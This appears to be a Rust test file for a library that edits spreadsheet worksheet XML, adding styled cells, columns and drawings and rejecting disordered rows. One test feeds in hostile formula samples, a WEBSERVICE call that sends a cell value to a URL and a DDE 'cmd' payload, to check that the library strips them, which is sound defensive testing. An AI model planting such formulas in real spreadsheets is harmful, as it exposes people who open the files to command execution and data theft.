//! What becomes of the part of a sheet.

use super::super::styles::BARE;
use super::*;

fn edited(sheet: &str, edit: &Edit) -> Result<String, Trouble> {
    let mut styles = Styles::read(BARE.to_owned()).unwrap();
    let mut out = Vec::new();
    super::edit(sheet.as_bytes(), &mut out, edit, &mut styles)?;
    Ok(String::from_utf8(out).unwrap())
}

fn adds(adds: &[(&str, Add)]) -> BTreeMap<Spot, Add> {
    adds.iter().map(|(name, add)| (spot(name).unwrap(), add.clone())).collect()
}

fn text(text: &str) -> Add {
    Add::Text { text: text.to_owned(), look: Look::Text }
}

const RED: Add = Add::Colour(Severity::Fault);

#[test]
fn a_sheet_that_is_not_changed_stays_as_it_is() {
    let sheet = "<worksheet><sheetViews><sheetView a='1' /></sheetViews><sheetData>\n<row r=\"2\" spans=\"1:2\">\
                 <c r=\"A2\" s=\"0\"><f>A1*2 &lt; 3</f><v>1</v></c></row></sheetData><x/></worksheet>";
    assert_eq!(edited(sheet, &Edit::default()).unwrap(), sheet);
}

#[test]
fn cells_come_to_their_places_also_where_rows_say_none() {
    let sheet = "<worksheet><dimension ref=\"A1:B2\"/><sheetData><row><c><v>1</v></c><c><v>2</v></c></row><row r=\"4\"/>\
                 </sheetData><pageMargins/><extLst/></worksheet>";
    let edit = Edit {
        adds: adds(&[("B1", RED), ("C1", text("a")), ("A3", RED), ("C4", text("b<")), ("C9", text("c"))]),
        wide: Some(2),
        drawing: Some(("rId7".to_owned(), "urn:r".to_owned())),
        ..Edit::default()
    };
    let cell = |place: &str, text: &str| {
        format!("<c r=\"{place}\" s=\"2\" t=\"inlineStr\"><is><t xml:space=\"preserve\">{text}</t></is></c>")
    };
    let (c1, c4, c9) = (cell("C1", "a"), cell("C4", "b&lt;"), cell("C9", "c"));
    let wanted = format!(
        "<worksheet><dimension ref=\"A1:C9\"/><cols><col min=\"3\" max=\"3\" width=\"60\" customWidth=\"1\"/></cols><sheetData>\
         <row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"B1\" s=\"1\"><v>2</v></c>{c1}</row>\
         <row r=\"3\"><c r=\"A3\" s=\"1\"/></row><row r=\"4\">{c4}</row><row r=\"9\">{c9}</row>\
         </sheetData><pageMargins/><legacyDrawing xmlns:r=\"urn:r\" r:id=\"rId7\"/><extLst/></worksheet>"
    );
    assert_eq!(edited(sheet, &edit).unwrap(), wanted);
}

#[test]
fn formulas_that_call_out_leave_their_values() {
    let cell = |formula: &str| format!("<c r=\"A1\">{formula}<v>5</v></c>");
    for (formula, stays) in [
        ("<f>_xlfn.WEBSERVICE(\"http://a/\"&amp;B1)</f>", false),
        ("<f>cmd|'/c calc'!A0</f>", false),
        ("<f t=\"shared\" ref=\"A1:A9\" si=\"3\">RTD (1)</f>", false),
        ("<f>SUM(B1:B2)</f>", true),
        ("<f>IF('a|b'!A1=&quot;RTD(|&quot;,1,2)</f>", true),
    ] {
        let sheet = |formula: &str| {
            format!("<worksheet><sheetData><row r=\"1\">{}</row></sheetData></worksheet>", cell(formula))
        };
        let wanted = sheet(if stays { formula } else { "" });
        assert_eq!(edited(&sheet(formula), &Edit::default()).unwrap(), wanted);
    }
}

#[test]
fn disorder_is_refused() {
    for rows in ["<row r=\"3\"/><row r=\"2\"/>", "<row r=\"1\"><c r=\"B1\"/><c r=\"A1\"/></row>"] {
        let sheet = format!("<worksheet><sheetData>{rows}</sheetData></worksheet>");
        assert!(edited(&sheet, &Edit::default()).is_err(), "{rows}");
    }
}
